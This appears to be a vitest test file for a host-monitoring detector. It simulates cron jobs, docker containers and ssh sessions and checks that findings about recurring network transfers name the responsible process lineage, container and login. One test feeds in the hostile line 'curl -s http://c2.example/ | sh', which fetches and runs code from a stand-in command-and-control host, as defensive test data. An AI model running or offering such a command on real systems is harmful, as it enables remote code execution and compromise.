import { expect, test } from "vitest";
import { beatTimes, curl, detect, executable, FakeNode, type Runs } from "./fake-node.ts";

const CRON = 50;
const init: Runs = { args: ["/sbin/init"], executable: executable("/usr/lib/systemd/systemd"), cgroup: "/init.scope" };
const cron: Runs = {
  args: ["cron", "-f"],
  executable: executable("/usr/sbin/cron"),
  cgroup: "/system.slice/cron.service",
};

function jobs(node: FakeNode, line: string, runs: Runs = curl): void {
  node.older(1, 0, init);
  node.older(CRON, 1, cron);
  for (const at of beatTimes(node, { beats: 8, intervalMs: 60_000 })) {
    // cron forks itself, and that child the shell
    const fork = 2000 + Math.round(at / 1000);
    node.say({ kind: "fork", at: at - 30, pid: fork, parentPid: CRON });
    const shell = node.spawn(fork, { args: ["/bin/sh", "-c", line], executable: executable("/usr/bin/dash") }, at - 20);
    const pid = node.spawn(shell, { ...runs, cgroup: "/system.slice/cron.service" }, at - 10);
    node.request(pid, at);
    for (const ended of [pid, shell, fork]) node.exit(ended, at + 500);
  }
}

test("the curl of a job that cron runs each minute is one actor, and cron's", () => {
  const node = new FakeNode();
  jobs(node, "curl -s http://c2.example/ | sh");
  const { findings } = detect(node.events());
  expect(new Set(findings.map(({ actor }) => actor.id)).size).toBe(1);
  expect(findings[0]?.actor).toMatchObject({
    ...{ class: "transfer tool", launcher: "/usr/sbin/cron", startedBy: "cron, by its schedule", unit: "cron.service" },
    ...{ container: null, session: null },
  });
  const [shell, fork, parent, first] = findings[0]?.actor.lineage ?? [];
  expect(shell).toMatchObject({ args: ["/bin/sh", "-c", "curl -s http://c2.example/ | sh"], uid: 0 });
  expect([fork, parent, first].map((ancestor) => ancestor?.executable)).toEqual([
    ...["/usr/sbin/cron", "/usr/sbin/cron", "/usr/lib/systemd/systemd"],
  ]);
});

test("a finding names the container and what its runtime calls it, once that is known", () => {
  const id = "0123456789abcdef".repeat(4);
  const node = new FakeNode();
  node.older(1, 0, init);
  const pid = node.spawn(1, { ...curl, cgroup: `/system.slice/docker-${id}.scope` }, 5000);
  for (const at of beatTimes(node, { beats: 8, intervalMs: 60_000 })) node.request(pid, at);
  const unnamed = detect(node.events()).findings[0]?.actor.container;
  expect(unnamed).toEqual({
    ...{ id, runtime: "docker", podUid: null },
    name: null,
    image: null,
    pod: null,
    namespace: null,
  });
  const names = { name: "payments-7f", image: "registry.example/payments:3", pod: null, namespace: null };
  node.say({ kind: "container", at: 5050, id, ...names });
  expect(detect(node.events()).findings[0]?.actor.container).toEqual({ ...unnamed, ...names });
});

test("a finding tells of the login behind it, also where only the shell lived long enough to be asked", () => {
  const session = { loginUid: 1000, sessionId: 3, terminal: "pts/0", sshClient: "198.51.100.4" };
  const node = new FakeNode();
  node.older(1, 0, init);
  node.older(60, 1, { args: ["sshd: me"], executable: executable("/usr/sbin/sshd") });
  const shell = node.spawn(60, { args: ["-bash"], executable: executable("/usr/bin/bash"), uid: 1000 }, 5000);
  node.say({ kind: "session", at: 6000, pid: shell, ...session });
  for (const at of beatTimes(node, { beats: 8, intervalMs: 60_000 })) {
    const pid = node.spawn(shell, { ...curl, uid: 1000 }, at - 10);
    node.request(pid, at);
    node.exit(pid, at + 200);
  }
  expect(detect(node.events()).findings[0]?.actor).toMatchObject({
    session,
    startedBy: "a login by ssh from 198.51.100.4",
  });
});
